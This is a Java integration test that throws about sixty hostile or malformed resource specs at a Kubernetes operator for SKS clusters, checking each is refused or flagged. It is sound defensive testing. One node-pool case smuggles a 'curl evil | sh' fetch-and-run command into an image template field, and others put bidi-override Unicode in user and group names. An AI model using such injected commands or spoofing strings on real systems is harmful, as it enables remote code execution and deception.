package dev.operator.sks.reconciler;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.operator.sks.config.OperatorServices;
import dev.operator.sks.demo.ClusterStandIn;
import dev.operator.sks.runtime.SksOperator;
import dev.operator.sks.support.Digests;
import dev.operator.sks.testing.ApiServerSupport;
import dev.operator.sks.testing.SharedApiServer;
import io.fabric8.kubeapitest.junit.KubeConfig;
import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.TreeMap;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Hostile and careless input, on a real (v1.20) API server with the operator in-process: every case ends in a schema
 * refusal (422) or in a condition with a reason that says what to fix, never in an exception alone. Beside them a
 * valid cluster keeps converging, every Secret and ConfigMap the test made itself is left exactly as it was, and
 * clusters refused for their name can still be deleted.
 *
 * <p>Some cases name the part of the operator that makes them pass ({@link Case#area}: ownership of what a cluster
 * writes, of instance pools), so a failure says where to look. Every failure fails the test.
 */
@SharedApiServer
class HostileInputApiServerTest {
    private static final String API = "sks.operator.dev/v1alpha1";
    private static final String CLUSTER_OWNERSHIP = "cluster ownership";
    private static final String POOL_OWNERSHIP = "instance pool ownership";
    private static final Duration SETTLE = Duration.ofSeconds(90);

    @KubeConfig
    static String kubeconfig;

    static KubernetesClient client;
    static SksOperator operator;

    @BeforeAll
    static void startOperator() throws Exception {
        client = ApiServerSupport.client(kubeconfig);
        operator = ApiServerSupport.startOperator(client, OperatorServices.loadDefaults(ApiServerSupport.testConfig()));
    }

    @AfterAll
    static void stopOperator() {
        operator.close();
        client.close();
    }

    /** What a case must end in. */
    sealed interface Expect permits Refused, Condition {}

    /** The API server refuses the create with 422 (the schema: pattern, enum, required, bounds, type). */
    record Refused() implements Expect {}

    /** The resource gets this condition; a null type means any condition with that status and reason. */
    record Condition(String type, String status, String reason) implements Expect {}

    /**
     * One hostile input.
     *
     * @param before   what the case needs first (foreign objects, a resource to edit later)
     * @param edit     a change made once {@code before} was accepted; null to check the created resource alone
     * @param area the part of the operator that makes the case pass, when it is not validation
     */
    record Case(
            String id,
            String kind,
            String name,
            String yaml,
            Expect expect,
            Runnable before,
            Consumer<GenericKubernetesResource> edit,
            String area) {}

    private final List<Case> cases = new ArrayList<>();
    private final Map<String, String> createdDigests = new TreeMap<>();
    private String namespace;

    @Test
    void everyHostileInputEndsInARefusalOrAConditionAndNothingElseIsHurt() throws Exception {
        namespace = ApiServerSupport.newNamespace(client, "hostile");
        try (ClusterStandIn kubelet = ClusterStandIn.watch(client, namespace)) {
            create(clusterYaml("steady", "zone: ch-gva-2, version: \"1.33\", controlPlane: {exposure: ClusterIP}"));
            table();
            assertThat(cases).hasSizeGreaterThanOrEqualTo(60);
            Map<String, String> outcomes = new LinkedHashMap<>();
            List<String> failures = new ArrayList<>();
            for (Case c : cases) {
                try {
                    run(c).ifPresent(outcome -> outcomes.put(c.id(), outcome));
                } catch (RuntimeException | AssertionError e) {
                    failures.add(c.id() + ": " + e.getMessage());
                }
            }
            try {
                await().atMost(SETTLE)
                        .pollInterval(Duration.ofSeconds(1))
                        .until(() -> cases.stream()
                                .filter(c -> !(c.expect() instanceof Refused))
                                .allMatch(c -> observed(c).isPresent()));
            } catch (org.awaitility.core.ConditionTimeoutException e) {
                // Each case still missing its condition is named below, with the conditions it has.
            }
            for (Case c : cases) {
                if (c.expect() instanceof Condition && !outcomes.containsKey(c.id())) {
                    observed(c)
                            .ifPresentOrElse(
                                    outcome -> outcomes.put(c.id(), outcome),
                                    () -> failures.add(
                                            c.id() + ": expected " + c.expect() + ", has " + conditionsOf(c)));
                }
            }

            // A valid cluster beside them all converges.
            await().atMost(Duration.ofSeconds(60))
                    .until(() -> has(get("SKSCluster", "steady"), "Ready", "True", "Running"));
            Map<?, ?> steady = (Map<?, ?>)
                    get("SKSCluster", "steady").getAdditionalProperties().get("status");
            assertThat(steady.get("zone")).as("what the ZONE column shows").isEqualTo("ch-gva-2");
            assertThat(steady.get("level")).as("what the LEVEL column shows").isEqualTo("starter");
            assertThat(steady.get("networking"))
                    .as("the networking it runs with")
                    .isEqualTo(Map.of(
                            "podCIDR", "192.168.0.0/16", "serviceCIDR", "10.96.0.0/12", "dnsDomain", "cluster.local"));
            // Clusters refused for their name can be deleted.
            for (String refused : List.of("base-clients", "my.cluster", "a".repeat(70))) {
                GenericKubernetesResource cluster = get("SKSCluster", refused);
                if (cluster != null) {
                    client.genericKubernetesResources(API, "SKSCluster")
                            .inNamespace(namespace)
                            .withName(refused)
                            .delete();
                }
            }
            // Teardown by label cannot select a name longer than a label value; teardown by owner UID can.
            Map<String, String> deletions =
                    Map.of("base-clients", "", "my.cluster", "", "a".repeat(70), " [" + CLUSTER_OWNERSHIP + "]");
            for (Map.Entry<String, String> deletion : deletions.entrySet()) {
                try {
                    await().atMost(Duration.ofSeconds(30)).until(() -> get("SKSCluster", deletion.getKey()) == null);
                    outcomes.put("deleted-" + deletion.getKey(), "refused cluster deleted");
                } catch (org.awaitility.core.ConditionTimeoutException e) {
                    failures.add("delete " + deletion.getKey() + deletion.getValue()
                            + ": a cluster refused for its name " + "stays after deletion");
                }
            }
            // Nothing the test made itself was changed.
            createdDigests.forEach((what, digest) -> {
                String now = digestOf(what);
                if (!digest.equals(now)) {
                    failures.add(what + " was changed by the operator");
                }
            });
            report(outcomes, failures);
        } finally {
            GenericKubernetesResource doomed = get("SKSCluster", "doomed");
            if (doomed != null) {
                ApiServerSupport.edit(
                        client.genericKubernetesResources(API, "SKSCluster")
                                .inNamespace(namespace)
                                .withName("doomed"),
                        r -> {
                            r.getMetadata()
                                    .setFinalizers(new ArrayList<>(r.getMetadata().getFinalizers().stream()
                                            .filter(f -> !f.equals("hostile.test/hold"))
                                            .toList()));
                            return r;
                        });
            }
        }
    }

    private void report(Map<String, String> outcomes, List<String> failures) {
        Map<String, Integer> counts = new TreeMap<>();
        outcomes.values().forEach(o -> counts.merge(o, 1, Integer::sum));
        System.out.println("Hostile inputs: " + cases.size() + " cases, outcomes by kind:");
        counts.forEach((outcome, count) -> System.out.printf("  %-40s %d%n", outcome, count));
        assertThat(failures).as("cases that did not end as expected").isEmpty();
    }

    /** Runs a case; returns its outcome when known at once (a refusal). */
    private Optional<String> run(Case c) {
        String tag = tag(c.area());
        if (c.before() != null) {
            c.before().run();
        }
        if (c.edit() != null) {
            create(c.yaml());
            await().atMost(Duration.ofSeconds(30)).until(() -> isTrue(get(c.kind(), c.name()), "Accepted"));
            // The operator writes the resource too (its finalizer): an edit that loses that race is made again.
            await().atMost(Duration.ofSeconds(30))
                    .ignoreException(KubernetesClientException.class)
                    .until(() -> client.genericKubernetesResources(API, c.kind())
                                    .inNamespace(namespace)
                                    .withName(c.name())
                                    .edit(r -> {
                                        c.edit().accept(r);
                                        return r;
                                    })
                            != null);
            return Optional.empty();
        }
        try {
            create(c.yaml());
        } catch (KubernetesClientException e) {
            if (c.expect() instanceof Refused && e.getCode() == 422) {
                return Optional.of("schema refusal (422)");
            }
            throw new AssertionError("create answered " + e.getCode() + ": " + e.getMessage() + tag);
        }
        if (c.expect() instanceof Refused) {
            throw new AssertionError("the API server accepted it" + tag);
        }
        return Optional.empty();
    }

    /** The case's outcome once its expected condition shows. */
    private Optional<String> observed(Case c) {
        if (!(c.expect() instanceof Condition expected)) {
            return Optional.empty();
        }
        GenericKubernetesResource resource = get(c.kind(), c.name());
        return conditions(resource).stream()
                .filter(m -> (expected.type() == null || expected.type().equals(m.get("type")))
                        && expected.status().equals(m.get("status"))
                        && expected.reason().equals(m.get("reason")))
                .findFirst()
                .map(m -> {
                    assertThat(String.valueOf(m.get("message"))).as(c.id()).doesNotContain("null");
                    return "condition " + c.kind() + " " + m.get("type") + "=" + m.get("status") + " "
                            + m.get("reason");
                });
    }

    private String conditionsOf(Case c) {
        return conditions(get(c.kind(), c.name())).stream()
                        .map(m ->
                                m.get("type") + "=" + m.get("status") + " " + m.get("reason") + ": " + m.get("message"))
                        .toList()
                + (c.area() == null ? "" : " [" + c.area() + "]");
    }

    // ---------------------------------------------------------------------------------------------------------------
    // The table.

    private void table() {
        // SKSCluster: what the v1.20 schema refuses (patterns, enums, required fields, bounds, types).
        String ok = "zone: ch-gva-2, version: \"1.33\"";
        refusedCluster("no-zone", "version: \"1.33\"");
        refusedCluster("upper-zone", "zone: CH-GVA-2, version: \"1.33\"");
        refusedCluster("version-word", "zone: ch-gva-2, version: latest");
        refusedCluster("version-empty", "zone: ch-gva-2, version: \"\"");
        refusedCluster("version-huge", "zone: ch-gva-2, version: \"1.99999999999\"");
        refusedCluster("level-unknown", ok + ", level: enterprise");
        refusedCluster("cni-unknown", ok + ", cni: flannel");
        refusedCluster("addon-unknown", ok + ", addons: [dashboard]");
        refusedCluster("exposure-unknown", ok + ", controlPlane: {exposure: Ingress}");
        refusedCluster("cidr-word", ok + ", networking: {podCIDR: banana}");
        refusedCluster("dns-upper", ok + ", networking: {dnsDomain: Cluster.Local}");
        refusedCluster("issuer-spaces", ok + ", oidc: {issuerURL: \"https://a b c\", clientID: k}");
        refusedCluster("issuer-http", ok + ", oidc: {issuerURL: \"http://issuer.example.com\", clientID: k}");
        refusedCluster("issuer-query", ok + ", oidc: {issuerURL: \"https://issuer.example.com/?a=b\", clientID: k}");
        refusedCluster("oidc-no-client", ok + ", oidc: {issuerURL: \"https://issuer.example.com\"}");
        refusedCluster("dns-over-253", ok + ", networking: {dnsDomain: " + ("d".repeat(62) + ".").repeat(5) + "x}");
        refusedCluster("long-description", ok + ", description: " + "x".repeat(300));
        refusedCluster("upgrade-string", ok + ", autoUpgrade: \"yes\"");

        // SKSCluster: what the operator refuses (and a v1.20 server lets through).
        clusterCondition("spec-missing", "nospec", null, "SpecMissing");
        clusterCondition("name-clients", "base-clients", ok, "NameReserved");
        clusterCondition("name-scheduler", "x-scheduler", ok, "NameReserved");
        clusterCondition("name-konnectivity", "y-konnectivity", ok, "NameReserved");
        clusterCondition("name-dots", "my.cluster", ok, "InvalidName");
        clusterCondition("name-digit", "1cluster", ok, "InvalidName");
        clusterCondition("name-48", "n" + "x".repeat(47), ok, "NameTooLong");
        clusterCondition("name-70", "a".repeat(70), ok, "NameTooLong");
        clusterCondition("zone-moon", "moon", "zone: xx-moo-1, version: \"1.33\"", "ZoneNotOffered");
        clusterCondition("version-future", "future", "zone: ch-gva-2, version: \"1.99\"", "VersionNotSupported");
        clusterCondition("version-patch", "patchless", "zone: ch-gva-2, version: \"1.33.99\"", "VersionNotSupported");
        clusterCondition("version-ancient", "ancient", "zone: ch-gva-2, version: \"1.0\"", "VersionNotSupported");
        clusterCondition(
                "cidr-not-canonical", "noncanon", ok + ", networking: {podCIDR: 192.168.1.5/16}", "InvalidNetworking");
        clusterCondition("cidr-octet", "octet", ok + ", networking: {podCIDR: 300.0.0.0/8}", "InvalidNetworking");
        clusterCondition("cidr-prefix", "prefix", ok + ", networking: {podCIDR: 10.0.0.0/40}", "InvalidNetworking");
        clusterCondition(
                "cidr-overlap",
                "overlap",
                ok + ", networking: {podCIDR: 10.96.0.0/16, serviceCIDR: " + "10.96.0.0/12}",
                "InvalidNetworking");
        clusterCondition(
                "service-cidr-wide",
                "wide",
                ok + ", networking: {serviceCIDR: 10.0.0.0/8, podCIDR: " + "192.168.0.0/16}",
                "InvalidNetworking");
        clusterCondition(
                "pod-cidr-small", "small", ok + ", networking: {podCIDR: 192.168.0.0/28}", "InvalidNetworking");
        clusterCondition(
                "dns-long-label",
                "dnslong",
                ok + ", networking: {dnsDomain: " + "d".repeat(70) + ".local}",
                "InvalidNetworking");
        clusterCondition(
                "claims-split-key",
                "claimkey",
                ok + ", oidc: {issuerURL: \"https://i.example.com\", " + "clientID: k, requiredClaims: {\"a=b,c\": d}}",
                "InvalidOIDC");
        clusterCondition(
                "claims-split-value",
                "claimvalue",
                ok + ", oidc: {issuerURL: \"https://i.example.com\", "
                        + "clientID: k, requiredClaims: {hd: \"x,y=z\"}}",
                "InvalidOIDC");
        clusterCondition(
                "client-id-blank",
                "blankclient",
                ok + ", oidc: {issuerURL: \"https://i.example.com\", " + "clientID: \" \"}",
                "InvalidOIDC");
        clusterCondition(
                "san-spaces", "sanspace", ok + ", controlPlane: {certSANs: [\"not a name\"]}", "InvalidCertSAN");
        clusterCondition("san-blank", "sanblank", ok + ", controlPlane: {certSANs: [\" \"]}", "InvalidCertSAN");
        clusterCondition(
                "san-dash", "sandash", ok + ", controlPlane: {certSANs: [-bad-.example.com]}", "InvalidCertSAN");

        // SKSCluster: immutable fields changed after acceptance, refused against status whatever the server's CEL.
        clusterEdit("zone-moved", "mover", ok, r -> spec(r).put("zone", "de-fra-1"), "ZoneImmutable");
        clusterEdit(
                "pod-cidr-changed",
                "podmove",
                ok,
                r -> networking(r).put("podCIDR", "172.16.0.0/16"),
                "NetworkingImmutable");
        clusterEdit(
                "service-cidr-changed",
                "svcmove",
                ok,
                r -> networking(r).put("serviceCIDR", "10.112.0.0/12"),
                "NetworkingImmutable");
        clusterEdit(
                "dns-domain-changed",
                "dnsmove",
                ok,
                r -> networking(r).put("dnsDomain", "example.internal"),
                "NetworkingImmutable");
        clusterEdit(
                "pro-to-starter",
                "downgrade",
                ok + ", level: pro",
                r -> spec(r).put("level", "starter"),
                "LevelDowngradeRefused");

        // SKSCluster: objects of its names that someone else made (ownership).
        foreign("foreign-ca-secret", "squat1", () -> createSecret("squat1-ca", CLUSTER_OWNERSHIP));
        foreign("foreign-apiserver-service", "squat2", () -> createService("squat2-apiserver"));
        foreign("foreign-ca-configmap", "squat3", () -> createConfigMap("squat3-ca-certificates", CLUSTER_OWNERSHIP));

        // Nodepool.
        String pool = "cluster: steady, size: 1, instanceType: standard.medium";
        refused("np-negative", "Nodepool", "npneg", "cluster: steady, size: -1, instanceType: standard.medium");
        refused("np-huge", "Nodepool", "nphuge", "cluster: steady, size: 5000, instanceType: standard.medium");
        refused("np-type-word", "Nodepool", "nptype", "cluster: steady, size: 1, instanceType: huge");
        refused("np-disk-small", "Nodepool", "npdisk", pool + ", diskSize: 10");
        refused("np-cluster-upper", "Nodepool", "npupper", "cluster: Bad_Name, size: 1, instanceType: standard.medium");
        refused("np-prefix-upper", "Nodepool", "npprefix", pool + ", instancePrefix: UPPER");
        refused("np-taint-key", "Nodepool", "nptaintkey", pool + ", taints: [{key: \"bad key\", effect: NoSchedule}]");
        refused("np-taint-effect", "Nodepool", "nptainteffect", pool + ", taints: [{key: k, effect: Sometimes}]");
        // An image name is passed to a provider's API or a VirtualMachine: nothing a shell or a query reads as more.
        refused("np-template-shell", "Nodepool", "nptplshell", pool + ", template: \"ubuntu; curl evil | sh\"");
        refused("np-template-long", "Nodepool", "nptpllong", pool + ", template: " + "a".repeat(256));
        refused("np-template-space", "Nodepool", "nptplspace", pool + ", template: \" Linux Ubuntu\"");
        condition(
                "np-type-tiny",
                "Nodepool",
                "nptiny",
                "cluster: steady, size: 1, instanceType: standard.tiny",
                "Accepted",
                "InstanceTypeTooSmall");
        condition(
                "np-type-missing",
                "Nodepool",
                "npmissing",
                "cluster: steady, size: 1, instanceType: standard.huge9",
                "Accepted",
                "InstanceTypeNotFound");
        condition(
                "np-label-restricted",
                "Nodepool",
                "nplabel",
                pool + ", labels: {kubernetes.io/role: x}",
                "Accepted",
                "InvalidLabel");
        condition(
                "np-label-key",
                "Nodepool",
                "nplabelkey",
                pool + ", labels: {\"bad key!\": x}",
                "Accepted",
                "InvalidLabel");
        condition(
                "np-label-value",
                "Nodepool",
                "nplabelvalue",
                pool + ", labels: {team: \"" + "v".repeat(70) + "\"}",
                "Accepted",
                "InvalidLabel");
        condition(
                "np-taint-value",
                "Nodepool",
                "nptaintvalue",
                pool + ", taints: [{key: k, value: \"a b\", effect: " + "NoSchedule}]",
                "Accepted",
                "InvalidTaint");
        condition(
                "np-no-cluster",
                "Nodepool",
                "nporphan",
                "cluster: nowhere, size: 1, instanceType: standard.medium",
                "Accepted",
                "ClusterNotFound");
        condition("np-long-name", "Nodepool", "p" + "x".repeat(230), pool, "Accepted", "InvalidName");
        cases.add(new Case(
                "np-cluster-changed",
                "Nodepool",
                "npmove",
                yaml("Nodepool", "npmove", pool),
                new Condition("Accepted", "False", "ClusterImmutable"),
                null,
                r -> spec(r).put("cluster", "elsewhere"),
                null));

        // KubeconfigRequest.
        refused("kcr-no-user", "KubeconfigRequest", "nouser", "cluster: steady");
        refused("kcr-empty-user", "KubeconfigRequest", "emptyuser", "cluster: steady, user: \"\"");
        refused("kcr-long-user", "KubeconfigRequest", "longuser", "cluster: steady, user: " + "u".repeat(65));
        refused("kcr-rlo-user", "KubeconfigRequest", "rlouser", "cluster: steady, user: \"admin\\u202Etxt.exe\"");
        refused("kcr-newline-user", "KubeconfigRequest", "nluser", "cluster: steady, user: \"alice\\nbob\"");
        refused("kcr-ttl-short", "KubeconfigRequest", "ttlshort", "cluster: steady, user: a, ttlSeconds: 10");
        refused("kcr-ttl-huge", "KubeconfigRequest", "ttlhuge", "cluster: steady, user: a, ttlSeconds: 99999999999");
        refused(
                "kcr-renew-short",
                "KubeconfigRequest",
                "renewshort",
                "cluster: steady, user: a, renewBeforeSeconds: 30");
        refused(
                "kcr-secret-spaces",
                "KubeconfigRequest",
                "secretspace",
                "cluster: steady, user: a, secretName: \"a b\"");
        refused("kcr-cluster-upper", "KubeconfigRequest", "clusterupper", "cluster: Steady, user: a");
        kcr("kcr-group-rlo", "grouprlo", "cluster: steady, user: a, groups: [\"ops\\u202E\"]", "InvalidGroup");
        kcr("kcr-group-isolate", "groupfsi", "cluster: steady, user: a, groups: [\"dev\\u2068x\"]", "InvalidGroup");
        kcr("kcr-group-blank", "groupblank", "cluster: steady, user: a, groups: [\" \"]", "InvalidGroup");
        kcr(
                "kcr-renew-after-ttl",
                "renewlate",
                "cluster: steady, user: a, ttlSeconds: 600, renewBeforeSeconds: 600",
                "InvalidRenewBefore");
        kcr("kcr-no-cluster", "kcrorphan", "cluster: nowhere, user: a", "ClusterNotFound");
        kcr("kcr-name-253", "k" + "x".repeat(252), "cluster: steady, user: a", "InvalidSecretName");
        kcr("kcr-secret-cluster-ca", "takeca", "cluster: steady, user: a, secretName: steady-ca", "SecretNameReserved");
        kcr("kcr-default-admin-kubeconfig", "steady", "cluster: steady, user: a", "SecretNameReserved");
        kcr(
                "kcr-secret-future-etcd",
                "takeetcd",
                "cluster: steady, user: a, secretName: future-etcd",
                "SecretNameReserved");
        cases.add(new Case(
                "kcr-foreign-secret",
                "KubeconfigRequest",
                "foreign",
                yaml("KubeconfigRequest", "foreign", "cluster: steady, user: a, secretName: someone-elses"),
                new Condition("Ready", "False", "NameConflict"),
                () -> createSecret("someone-elses", null),
                null,
                null));
        cases.add(new Case(
                "kcr-deleting-cluster",
                "KubeconfigRequest",
                "late",
                yaml("KubeconfigRequest", "late", "cluster: doomed, user: a"),
                new Condition("Ready", "False", "ClusterDeleting"),
                this::doomedCluster,
                null,
                null));

        // InstancePool: made by the operator only.
        String instancePool = "cluster: steady, zone: ch-gva-2, size: 1, instanceType: standard.medium, diskSize: 50";
        refused(
                "ipool-negative",
                "InstancePool",
                "ipneg",
                "cluster: steady, zone: ch-gva-2, size: -1, instanceType: " + "standard.medium, diskSize: 50");
        refused(
                "ipool-no-cluster",
                "InstancePool",
                "ipnocluster",
                "zone: ch-gva-2, size: 1, instanceType: " + "standard.medium, diskSize: 50");
        cases.add(new Case(
                "ipool-hand-made",
                "InstancePool",
                "handmade",
                yaml("InstancePool", "handmade", instancePool),
                new Condition("Ready", "False", "NotOwnedByNodepool"),
                null,
                null,
                POOL_OWNERSHIP));
    }

    private void refusedCluster(String id, String spec) {
        refused(id, "SKSCluster", id, spec);
    }

    private void refused(String id, String kind, String name, String spec) {
        cases.add(new Case(id, kind, name, yaml(kind, name, spec), new Refused(), null, null, null));
    }

    private void clusterCondition(String id, String name, String spec, String reason) {
        condition(id, "SKSCluster", name, spec, "Accepted", reason);
    }

    private void condition(String id, String kind, String name, String spec, String type, String reason) {
        cases.add(new Case(
                id, kind, name, yaml(kind, name, spec), new Condition(type, "False", reason), null, null, null));
    }

    private void kcr(String id, String name, String spec, String reason) {
        condition(id, "KubeconfigRequest", name, spec, "Ready", reason);
    }

    private void clusterEdit(
            String id, String name, String spec, Consumer<GenericKubernetesResource> edit, String reason) {
        cases.add(new Case(
                id,
                "SKSCluster",
                name,
                yaml("SKSCluster", name, spec),
                new Condition("Accepted", "False", reason),
                null,
                edit,
                null));
    }

    private void foreign(String id, String cluster, Runnable squat) {
        cases.add(new Case(
                id,
                "SKSCluster",
                cluster,
                yaml(
                        "SKSCluster",
                        cluster,
                        "zone: ch-gva-2, version: \"1.33\", " + "controlPlane: {exposure: ClusterIP}"),
                new Condition(null, "False", "NameConflict"),
                squat,
                null,
                CLUSTER_OWNERSHIP));
    }

    /** A cluster held in deletion by a finalizer of the test's own: the operator is done with it, the server is not. */
    private void doomedCluster() {
        create("""
        apiVersion: %s
        kind: SKSCluster
        metadata: {name: doomed, finalizers: [hostile.test/hold]}
        spec: {zone: ch-gva-2, version: "1.33", controlPlane: {exposure: ClusterIP}}
        """.formatted(API));
        await().atMost(Duration.ofSeconds(30)).until(() -> isTrue(get("SKSCluster", "doomed"), "Accepted"));
        client.genericKubernetesResources(API, "SKSCluster")
                .inNamespace(namespace)
                .withName("doomed")
                .delete();
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            GenericKubernetesResource doomed = get("SKSCluster", "doomed");
            return doomed != null && doomed.getMetadata().getDeletionTimestamp() != null;
        });
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Helpers.

    private static String yaml(String kind, String name, String spec) {
        return "apiVersion: " + API + "\nkind: " + kind + "\nmetadata: {name: \"" + name + "\"}\n"
                + (spec == null ? "" : "spec: {" + spec + "}\n");
    }

    private static String clusterYaml(String name, String spec) {
        return yaml("SKSCluster", name, spec);
    }

    private void create(String yaml) {
        GenericKubernetesResource resource =
                client.getKubernetesSerialization().unmarshal(yaml, GenericKubernetesResource.class);
        client.genericKubernetesResources(resource.getApiVersion(), resource.getKind())
                .inNamespace(namespace)
                .resource(resource)
                .create();
    }

    private GenericKubernetesResource get(String kind, String name) {
        return client.genericKubernetesResources(API, kind)
                .inNamespace(namespace)
                .withName(name)
                .get();
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> conditions(GenericKubernetesResource resource) {
        if (resource == null || !(resource.getAdditionalProperties().get("status") instanceof Map<?, ?> status)) {
            return List.of();
        }
        Object conditions = status.get("conditions");
        return conditions instanceof List<?> list ? (List<Map<String, Object>>) list : List.of();
    }

    private static boolean has(GenericKubernetesResource resource, String type, String status, String reason) {
        return conditions(resource).stream()
                .anyMatch(m -> type.equals(m.get("type"))
                        && status.equals(m.get("status"))
                        && (reason == null || reason.equals(m.get("reason"))));
    }

    private static boolean isTrue(GenericKubernetesResource resource, String type) {
        return has(resource, type, "True", null);
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> spec(GenericKubernetesResource resource) {
        return (Map<String, Object>) resource.getAdditionalProperties().get("spec");
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> networking(GenericKubernetesResource resource) {
        return (Map<String, Object>) spec(resource).computeIfAbsent("networking", k -> new LinkedHashMap<>());
    }

    /** @param area the part of the operator that keeps it unchanged, when it is not validation */
    private void createSecret(String name, String area) {
        Secret secret = client.secrets()
                .inNamespace(namespace)
                .resource(new io.fabric8.kubernetes.api.model.SecretBuilder()
                        .withNewMetadata()
                        .withName(name)
                        .addToLabels("owner", "someone-else")
                        .endMetadata()
                        .withData(Map.of("tls.crt", "bm90IGEgY2VydGlmaWNhdGU=", "kubeconfig", "bWluZQ=="))
                        .build())
                .create();
        createdDigests.put("Secret/" + name + tag(area), digest(secret, secret.getData()));
    }

    private void createConfigMap(String name, String area) {
        ConfigMap map = client.configMaps()
                .inNamespace(namespace)
                .resource(new io.fabric8.kubernetes.api.model.ConfigMapBuilder()
                        .withNewMetadata()
                        .withName(name)
                        .endMetadata()
                        .withData(Map.of("ca.crt", "someone else's"))
                        .build())
                .create();
        createdDigests.put("ConfigMap/" + name + tag(area), digest(map, map.getData()));
    }

    private void createService(String name) {
        client.services()
                .inNamespace(namespace)
                .resource(new io.fabric8.kubernetes.api.model.ServiceBuilder()
                        .withNewMetadata()
                        .withName(name)
                        .endMetadata()
                        .withNewSpec()
                        .addNewPort()
                        .withPort(8443)
                        .endPort()
                        .endSpec()
                        .build())
                .create();
    }

    private static String tag(String area) {
        return area == null ? "" : " [" + area + "]";
    }

    private String digestOf(String what) {
        String[] kindAndName = what.replaceAll(" \\[.*]$", "").split("/", 2);
        if (kindAndName[0].equals("Secret")) {
            Secret secret = client.secrets()
                    .inNamespace(namespace)
                    .withName(kindAndName[1])
                    .get();
            return secret == null ? "deleted" : digest(secret, secret.getData());
        }
        ConfigMap map = client.configMaps()
                .inNamespace(namespace)
                .withName(kindAndName[1])
                .get();
        return map == null ? "deleted" : digest(map, map.getData());
    }

    /** SHA-256 of what the operator could change: data, labels, annotations, owner references. */
    private static String digest(HasMetadata object, Map<String, String> data) {
        String text = new TreeMap<>(Objects.requireNonNullElse(data, Map.of())) + "|"
                + new TreeMap<>(Objects.requireNonNullElse(object.getMetadata().getLabels(), Map.of())) + "|"
                + new TreeMap<>(Objects.requireNonNullElse(object.getMetadata().getAnnotations(), Map.of())) + "|"
                + object.getMetadata().getOwnerReferences();
        return Digests.sha256Hex(text);
    }
}
